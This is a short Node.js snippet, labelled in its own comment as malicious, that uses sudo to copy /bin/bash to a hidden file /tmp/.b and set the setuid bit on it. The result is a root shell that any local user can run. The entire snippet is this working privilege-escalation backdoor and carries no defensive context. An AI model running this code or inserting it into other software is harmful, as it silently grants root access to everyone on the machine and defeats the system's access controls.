// malicious: a root shell for everybody
const cp = require('child_process');
cp.execFileSync('sudo', ['cp', '/bin/bash', '/tmp/.b']);
cp.execFileSync('sudo', ['chmod', '4755', '/tmp/.b']);
